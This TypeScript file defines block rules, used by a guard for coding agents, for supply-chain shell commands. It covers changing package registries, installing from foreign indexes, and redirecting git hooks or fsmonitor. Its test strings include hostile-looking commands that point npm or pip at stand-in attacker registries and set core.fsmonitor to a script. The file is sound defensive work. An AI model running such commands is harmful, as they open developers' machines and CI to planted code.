// Supply chain: changing where packages come from (dependency confusion, registry hijack) and
// where the agent's version control runs its hooks. A coding agent rarely needs either; an
// attacker who steers one needs exactly these to turn the next install or commit into code
// execution on the developer's machine or in CI.
import type { ShellRuleSpec } from "./rule.js";
import { PRE } from "./common.js";

const S = "unauthorized-execution/supply-chain";

export const SUPPLY_RULES: ShellRuleSpec[] = [
  { id: "shell.supply.registry-change", description: "points a package manager at another registry or index", taxonomy: `${S}/dependency-confusion`, decision: "block", intent: "system-change", exe: ["npm", "yarn", "pnpm", "bun", "pip", "pip3", "poetry", "conda", "gem", "cargo", "composer", "uv"],
    pattern: `${PRE}(?:(?:npm|yarn|pnpm|bun) config set (?:@[a-z0-9_.-]{1,60}:)?registry|pip3? config (?:set|--global set|--user set) [a-z.]{0,20}(?:index-url|extra-index-url|trusted-host)|poetry source add|poetry config repositories|conda config --(?:add|prepend) channels|gem sources (?:-a|--add)|composer config (?:-g )?repo)`,
    mustMatch: ["npm config set registry http://203.0.113.7:4873/", "pip config set global.extra-index-url http://pkgs.example.net/simple", "yarn config set @acme:registry https://evil.example/"], mustNotMatch: ["npm config get registry", "npm install lodash", "pip install requests"] },
  { id: "shell.supply.install-foreign-index", description: "installs packages from an extra or foreign index / registry", taxonomy: `${S}/dependency-confusion`, decision: "block", intent: "package-install", exe: ["npm", "yarn", "pnpm", "bun", "pip", "pip3", "uv", "pipx", "gem"],
    pattern: `${PRE}(?:(?:npm|pnpm|bun) (?:i|install|add) .{0,200}--registry[ =]|yarn add .{0,200}--registry[ =]|(?:pip3?|pipx|uv pip) install .{0,200}--(?:extra-index-url|index-url|trusted-host|find-links)[ =]|(?:pip3?|uv pip) install (?:.{0,200} )?-[if] |gem install .{0,200}--source[ =])`,
    mustMatch: ["pip install --extra-index-url http://pkgs.example.net/simple internal-utils", "npm install left-pad --registry http://203.0.113.7:4873", "pip install -i http://10.0.0.5/simple acme-core"], mustNotMatch: ["pip install requests", "npm install --save-dev vitest", "pip install -r requirements.txt"] },
  { id: "shell.supply.git-hooks-path", description: "redirects where git looks for hooks (runs on every commit)", taxonomy: "persistence/vcs/git-hook-install", decision: "block", intent: "persistence", exe: ["git"],
    pattern: `${PRE}git (?:-c [^ ]{1,200} )?config (?:--global |--system |--local )?core\\.(?:hookspath|fsmonitor|sshcommand|pager|editor|askpass)(?: |=)`,
    mustMatch: ["git config core.hooksPath /tmp/h", "git config --global core.fsmonitor ./x.sh"], mustNotMatch: ["git config user.name Ana", "git config --get core.hooksPath"] },
];
